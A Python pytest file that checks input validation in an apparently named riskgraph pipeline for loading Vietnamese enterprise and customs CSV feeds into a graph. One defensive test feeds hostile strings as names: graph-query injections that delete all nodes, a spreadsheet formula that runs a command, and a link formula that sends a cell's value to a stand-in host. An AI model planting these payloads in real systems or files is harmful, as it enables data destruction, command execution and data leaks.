"""Bad input: a clear reject or error, and nothing already stored changes.

Damaged files (broken quoting, encodings, control characters, huge fields, empty or
non-CSV files, bad JSONL) are in the table of test_corpus.py; here, rules of single fields.
"""

from __future__ import annotations

import os
import subprocess
import sys
from dataclasses import replace

import pytest

from riskgraph.errors import FeedError, RejectedRows
from riskgraph.graph.digest import graph_digest
from tests.ingest.helpers import ENTERPRISES, count, domain_digest, load, rejects

HEADER = "tax_code,name,address,province,phone,email,bank_accounts,registered_on,status,activities\n"


@pytest.fixture
def loaded(store, write_feed, tmp_path):
    """A store holding a good feed, and the digest of its customs data."""
    load(store, write_feed({"enterprises.csv": ENTERPRISES}, name="base"), tmp_path)
    return store, domain_digest(store)


def _only_rejects(loaded, write_feed, tmp_path, files, expected_field, expected_reason):
    store, before = loaded
    report = load(store, write_feed(files, name="bad"), tmp_path)
    found = rejects(report)
    assert found, "the bad row was not rejected"
    assert any(r["field"] == expected_field and expected_reason in r["reason"] for r in found), found
    assert all(r["file"] and r["line"] for r in found)
    assert domain_digest(store) == before  # nothing already stored changed
    return found


def test_byte_order_mark_is_accepted(store, write_feed, tmp_path):
    report = load(store, write_feed({"enterprises.csv": "\ufeff" + ENTERPRISES}), tmp_path)
    assert report.rejected == 0 and count(store, "Enterprise") == 2


@pytest.mark.parametrize(
    "row, field, reason",
    [
        ("0101234567,A,,,,,,17/03/2025,,", "registered_on", "YYYY-MM-DD"),
        ("0101234567,A,,,,,,2025-02-30,,", "registered_on", "calendar date"),
        ("0101234567,A,,,,,,,closed,", "status", "not one of"),
        ("0101234567,A,,,,not-an-email,,,,", "email", "name@domain"),
        ("0101234567,A,,,,,0071000123456,,,", "bank_accounts", "BANKCODE:ACCOUNTNO"),
        ("0101234567,A,,,,,,,,importer;smuggler", "activities", "not one of"),
        (",A,,,,,,,,", "tax_code", "required"),
        ("0101234567,A,,,1,2", "bank_accounts", "6 cells but the header has 10: nothing from bank_accounts on"),
        ("0101234567,A,,,,,,,,,extra", "", "11 cells but the header has 10"),
    ],
)
def test_wrong_types_are_rejected_with_field_and_reason(loaded, write_feed, tmp_path, row, field, reason):
    _only_rejects(loaded, write_feed, tmp_path, {"enterprises.csv": HEADER + row + "\n"}, field, reason)


def test_wrong_numbers_in_declarations(loaded, write_feed, tmp_path):
    header = "declaration_no,direction,registered_at,trader_tax_code,value_usd,duty_rate_pct,hs_codes,partner_country\n"
    rows = [
        "105000000001,import,2025-03-17T08:15:00+07:00,0100233488,\"12,000.50\",,,",
        "105000000002,import,2025-03-17T08:15:00+07:00,0100233488,-5,,,",
        "105000000003,import,2025-03-17T08:15:00+07:00,0100233488,,12%,,",
        "105000000004,import,2025-03-17T08:15:00+07:00,0100233488,,,8517,",
        "105000000005,import,2025-03-17T08:15:00+07:00,0100233488,,,,China",
        "105000000006,sideways,2025-03-17T08:15:00+07:00,0100233488,,,,",
    ]
    store, before = loaded
    report = load(store, write_feed({"declarations.csv": header + "\n".join(rows) + "\n"}, name="bad"), tmp_path)
    fields = [r["field"] for r in rejects(report)]
    assert fields == ["value_usd", "value_usd", "duty_rate_pct", "hs_codes", "partner_country", "direction"]
    assert count(store, "Declaration") == 0 and domain_digest(store) == before


def test_conflicting_duplicates_across_batches(store, write_feed, tmp_path):
    rows = [f"01012345{n:02d},Công ty {n},,,,,,,," for n in range(10)] + ["0101234503,Another name,,,,,,,,"]
    report = load(store, write_feed({"enterprises.csv": HEADER + "\n".join(rows) + "\n"}), tmp_path, batch_size=2)
    found = rejects(report)
    assert len(found) == 1 and found[0]["line"] == "12" and "line 5" in found[0]["reason"]


@pytest.mark.parametrize("hostile", ["}) DETACH DELETE n //", "'); MATCH (n) DETACH DELETE n; //", 'a"b\\"c\\\\', "$rows `x` {y: 1}",
                                     "=cmd|' /C calc'!A0", '=HYPERLINK("http://x.example/?"&A1,"xem")', "Đ" * 65_536])
def test_hostile_strings_are_stored_verbatim_and_harm_nothing(loaded, write_feed, tmp_path, hostile):
    store, _ = loaded
    escaped = hostile.replace('"', '""')
    report = load(store, write_feed({"enterprises.csv": HEADER + f'0101234567,"{escaped}",,,,,,,,\n'}, name="hostile"), tmp_path)
    assert report.rejected == 0
    assert count(store, "Enterprise") == 3  # the two of the base feed are still there
    from tests.ingest.test_pipeline import _props

    assert _props(store, "Enterprise", "tax_code", "0101234567")["name"] == hostile


def test_strict_fails_on_any_reject_and_writes_nothing(loaded, write_feed, tmp_path):
    store, _ = loaded
    before = graph_digest(store)
    feed = write_feed({"enterprises.csv": HEADER + "0101234567,Good,,,,,,,,\n0101234568,Bad,,,,,,13/13/2025,,\n"}, name="strict")
    with pytest.raises(RejectedRows, match="1 rows rejected; nothing was written"):
        load(store, feed, tmp_path, strict=True)
    assert graph_digest(store) == before


def test_strict_loads_a_clean_feed(store, write_feed, tmp_path):
    report = load(store, write_feed({"enterprises.csv": ENTERPRISES}), tmp_path, strict=True)
    assert report.loaded == 2 and count(store, "Enterprise") == 2


def _cli(settings, *args):
    env = {**os.environ, "RISKGRAPH_DATA_DIR": str(settings.data_dir), "RISKGRAPH_GRAPH": settings.graph}
    return subprocess.run([sys.executable, "-m", "riskgraph.cli", *args], env=env, capture_output=True, text=True, timeout=120)


def test_cli_exit_codes(settings, write_feed, tmp_path):
    good = write_feed({"enterprises.csv": ENTERPRISES + "12345,Bad Phone Co,,,abc,,,,,\n"}, name="good")
    done = _cli(settings, "ingest", str(good))
    assert done.returncode == 0, done.stderr
    assert "1 rows rejected" in done.stdout
    missing = _cli(settings, "ingest", str(tmp_path / "nowhere"))
    assert missing.returncode == 1 and "does not exist" in missing.stderr and "Traceback" not in missing.stderr
    strict = _cli(settings, "ingest", "--strict", "--force", str(good))
    assert strict.returncode == 1 and "nothing was written" in strict.stderr


def test_a_windows_1258_export_loads_with_its_encoding_as_its_utf8_twin(settings, write_feed, tmp_path):
    """``--encoding cp1258``: decoded, then validated and stored exactly as the same rows in UTF-8."""
    from riskgraph.graph import open_store

    text = HEADER + "".join(f"01012345{k:02d},Công ty Đông Á {k},Cà Mau,,,,,,active,\n" for k in range(5))  # in cp1258 as is
    digests = []
    for name, data, encoding in (("utf8", text.encode(), "utf-8"), ("legacy", text.encode("cp1258"), "cp1258")):
        store = open_store(replace(settings, graph=f"{settings.graph}_{name}"))
        try:
            report = load(store, write_feed({"enterprises.csv": data}, name=name), tmp_path, encoding=encoding)
            assert report.rejected == 0 and count(store, "Enterprise") == 5
            digests.append(domain_digest(store))
        finally:
            store.close()
    assert digests[0] == digests[1]


def test_an_encoding_riskgraph_cannot_read_is_refused(store, write_feed, tmp_path):
    with pytest.raises(FeedError, match="encoding 'tcvn3' is not one riskgraph reads"):
        load(store, write_feed({"enterprises.csv": ENTERPRISES}), tmp_path, encoding="tcvn3")


def test_rejected_rows_are_readable_by_their_owner_alone(store, write_feed, tmp_path):
    """Rejected rows are personal data: the run's files 600, its directories 700 up to the data directory."""
    import stat

    report = load(store, write_feed({"enterprises.csv": HEADER + ",A,,,,,,,,\n" + ENTERPRISES.split("\n", 1)[1]}), tmp_path)
    assert report.rejected == 1
    for path in (report.out_dir / "rejects.csv", report.out_dir / "summary.json"):
        assert stat.S_IMODE(path.stat().st_mode) == 0o600, path
    for directory in (report.out_dir, report.out_dir.parent, report.out_dir.parent.parent):
        assert stat.S_IMODE(directory.stat().st_mode) == 0o700, directory
